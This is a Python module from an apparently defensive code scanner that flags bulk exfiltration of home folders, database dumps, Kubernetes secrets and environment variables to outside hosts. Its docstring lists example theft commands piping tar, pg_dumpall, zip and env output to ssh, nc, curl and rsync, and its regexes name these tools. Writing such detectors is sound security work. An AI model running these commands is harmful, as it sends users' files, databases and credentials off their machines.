"""Bulk data carried out: the home folder, a database dump or a cluster's secrets sent off the machine.

The secret-flow rules follow one credential to one sink. A thief who wants everything takes it in bulk
instead: `tar czf - ~ | ssh x@host 'cat > h.tgz'`, `pg_dumpall | nc host 9000`, `zip -r - ~ | curl
--data-binary @- https://...`, `rsync -az ~/ user@host:`, or `env > /tmp/e` then `curl -F f=@/tmp/e ...`.
A bulk source (an archive of home, a dump, `kubectl get secrets`, the whole environment) reaching an upload
to a host outside the user's own (a raw address, or a name that is no well-known service, placeholder or
variable) is the finding. A dump written to a local file, a backup to the user's `$NAS_HOST` and a release
tarball of the build folder are not.
"""

from __future__ import annotations

import ipaddress
import re
from collections.abc import Iterator

from skillkeeper.check.scan.gated import Gated
from skillkeeper.check.scan.hosts import placeholder, urls, well_known
from skillkeeper.check.scan.lazyre import lazy
from skillkeeper.check.scan.registry import CodeRow, ScanContext, register, topic_severity
from skillkeeper.check.scan.result import Finding
from skillkeeper.check.scan.text import Doc

CATEGORY = "bulk-exfiltration"

_HOME = r"[\"']?(?:~|\$HOME|\$\{HOME\})[\"']?/?"
# What holds everything: the home folder archived, a database or cluster dump, the environment.
_SOURCE = (
    rf"\b(?:tar|gtar|bsdtar)\s[^\n|]*?(?:\s-C\s+{_HOME}\s+\.|\s{_HOME})(?=[\s|]|$)"
    rf"|\bzip\s[^\n|]*?\s{_HOME}(?=[\s|]|$)"
    r"|\b(?:pg_dump(?:all)?|mysqldump|mariadb-dump|mongodump|mongoexport|etcdctl\s+snapshot\s+save)\b"
    r"|\bsqlite3\s[^\n|]*?\.dump\b|\bredis-cli\s[^\n|]*?--rdb\b|\bkubectl\s+get\s+secrets?\b"
)
# An upload that reads its data from the pipe, with where it goes.
_PIPE_SINK = lazy(
    r"\|\s*(?:(?:gzip|xz|bzip2|zstd|base64|openssl\s[^\n|]*)\s*(?:-\w+\s*)*\|\s*)*"
    r"(?:curl\b[^\n|]*?(?:-T\s*-|--upload-file\s+-|--data-binary\s+@-|--data(?:-raw)?\s+@-|-d\s*@-|-F\s*[\"']?\w+=@-)[^\n|]*"
    r"|(?:nc|ncat|netcat|socat)\b[^\n|]*|ssh\b[^\n|]*|wget\b[^\n|]*--post-file\s*=?\s*(?:-|/dev/stdin))",
    re.I,
)
# Both run on one line at a time, from the triggers whose home folder and upload still follow on it (`Gated`).
_HOME_NAMED = r"(?:~|\$HOME|\$\{HOME\})"
_BULK_PIPE = Gated(
    lazy(rf"(?:{_SOURCE})[^\n]*?(?={_PIPE_SINK.pattern})", re.I),
    (
        (r"\b(?:tar|gtar|bsdtar|zip)\s", _HOME_NAMED, _PIPE_SINK.pattern),
        (r"\b(?:pg_dump|mysqldump|mariadb-dump|mongodump|mongoexport|etcdctl|kubectl)", _PIPE_SINK.pattern),
        (r"\bsqlite3\s", r"\.dump\b", _PIPE_SINK.pattern),
        (r"\bredis-cli\s", r"--rdb\b", _PIPE_SINK.pattern),
    ),
    re.I,
)
# Home copied to another host in one command.
_HOME_COPY_TO = rf"\s{_HOME}\s+(?:[^\s@:]+@)?(?P<host>[\w.-]+|\[[\d:a-f]+\]):"
_HOME_COPY = Gated(
    lazy(rf"\b(?:rsync|scp)\b[^\n]*?{_HOME_COPY_TO}", re.I), ((r"\b(?:rsync|scp)\b", _HOME_COPY_TO),), re.I
)
# A bulk source written to a file (`env > /tmp/e`, `pg_dump db > /tmp/d.sql`), then that file uploaded.
# The dump tools' own output options count as the redirect (`mongodump --archive=/tmp/d`, `pg_dump -f /tmp/d.sql`).
# A source is tried only where what it needs still follows on its line (`Gated`; one that starts a line with
# `tar` alone may go on the next line, so it is always tried).
_REDIRECT = r"(?:>|\s--archive=|\s--out(?:put)?[=\s]|\s--file[=\s]|\s--result-file[=\s]|\s-f\s)"
_TO_FILE = Gated(
    lazy(
        rf"(?:(?:^|[;&|(]\s*|\bthen\s+)(?:env|printenv|set)\s*>|(?:{_SOURCE})[^\n>|]*?{_REDIRECT})"
        r"\s*[\"']?(?P<path>[\w./~$-]+)",
        re.I | re.M,
    ),
    (
        (r"^|[;&|(]|\bthen\s|\b(?:tar|gtar|bsdtar|zip|sqlite3|redis-cli)\n|\b(?:etcdctl|kubectl)\b",),
        (r"\b(?:tar|gtar|bsdtar|zip)[^\S\n]", rf"\s-C\s|\s{_HOME_NAMED}|\s[\"']{_HOME_NAMED}"),
        (r"\b(?:pg_dump|mysqldump|mariadb-dump|mongodump|mongoexport)", _REDIRECT),
        (r"\bsqlite3[^\S\n]", r"\.dump\b", _REDIRECT),
        (r"\bredis-cli[^\S\n]", r"--rdb\b", _REDIRECT),
    ),
    re.I | re.M,
)
_USER_HOST = lazy(r"(?:[\w.-]+@)?(?P<host>\d{1,3}(?:\.\d{1,3}){3}|[a-z0-9][\w-]*(?:\.[\w-]+)+)(?=[\s:'\"]|$)", re.I)
_PRIVATE = [ipaddress.ip_network(n) for n in ("10.0.0.0/8", "172.16.0.0/12", "192.168.0.0/16", "127.0.0.0/8")]


def _outside(host: str) -> bool:
    """A host that is not the user's own: a public address, or a name that is no known service or placeholder."""
    host = host.strip("[]").lower().rstrip(".")
    try:
        ip = ipaddress.ip_address(host)
    except ValueError:
        return "." in host and "$" not in host and not well_known(host) and not placeholder(host)
    return not ip.is_loopback and not ip.is_link_local and not any(ip in n for n in _PRIVATE)


def _sink_host(text: str) -> str | None:
    """The outside host an upload command names (URL, user@host, nc host), or None."""
    for _, _, host, _ in urls(text):
        if _outside(host):
            return host
    for m in _USER_HOST.finditer(text):
        if _outside(m.group("host")) and not m.group("host").lower().endswith((".sql", ".tgz", ".gz", ".txt", ".json")):
            return m.group("host")
    return None


def _finding(ctx: ScanContext, doc: Doc, start: int, end: int, what: str) -> Finding:
    at = doc.orig(start)
    return ctx.finding(
        "SK-EXFIL-BULK", CATEGORY, topic_severity(doc, at), f"sends {what} off the machine", doc, at, doc.orig(end)
    )


def _bulk(ctx: ScanContext, doc: Doc) -> Iterator[Finding]:
    text = doc.norm
    for start, end in doc.candidate_lines(_TRIGGERS):
        for m in _BULK_PIPE.finditer(text, start, end):
            sink = _PIPE_SINK.match(text, m.end(), end)
            if sink and _sink_host(sink.group(0)):
                yield _finding(ctx, doc, m.start(), sink.end(), f"{m.group(0).split()[0]} output through a pipe")
                return
        for m in _HOME_COPY.finditer(text, start, end):
            if _outside(m.group("host")):
                yield _finding(ctx, doc, m.start(), m.end(), "the home folder")
                return
    # A dump written to a file is only worth following when the document uploads a file at all.
    if not any(doc.has(t) for t in _UPLOAD_MARKERS):
        return
    for m in _TO_FILE.finditer(text):
        path = re.escape(m.group("path"))
        upload = re.search(
            rf"(?:@|-T\s+|--upload-file\s+|--post-file\s*=?\s*|\bscp\b[^\n]*?\s)[\"']?{path}(?![\w.-])[^\n]*",
            text[m.end() :],
        )
        if upload and _sink_host(upload.group(0)):
            yield _finding(ctx, doc, m.start(), m.end(), "a dump of the environment or a database, via a file")
            return


_TRIGGERS = (
    "tar ",
    "zip ",
    "dump",
    "mongoexport",
    "etcdctl",
    "sqlite3",
    "redis-cli",
    "kubectl get secret",
    "rsync",
    "scp ",
)
_UPLOAD_MARKERS = ("=@", " @/", " @$", "--upload-file", "scp ", "--post-file", "-t /", "-t ~", "-t $")

CODES: tuple[CodeRow, ...] = (
    (
        "SK-EXFIL-BULK",
        "critical",
        "sends data in bulk to a host outside the user's own: an archive of the home folder, a database dump, a "
        "cluster's secrets or the whole environment piped, copied or uploaded (ssh, nc, curl, rsync, scp)",
    ),
)


@register(CATEGORY, (), CODES, hints=_TRIGGERS + _UPLOAD_MARKERS)
def check(ctx: ScanContext) -> Iterator[Finding]:
    for doc in ctx.docs:
        if any(doc.has(t) for t in _TRIGGERS) or any(doc.has(t) for t in _UPLOAD_MARKERS):
            yield from _bulk(ctx, doc)
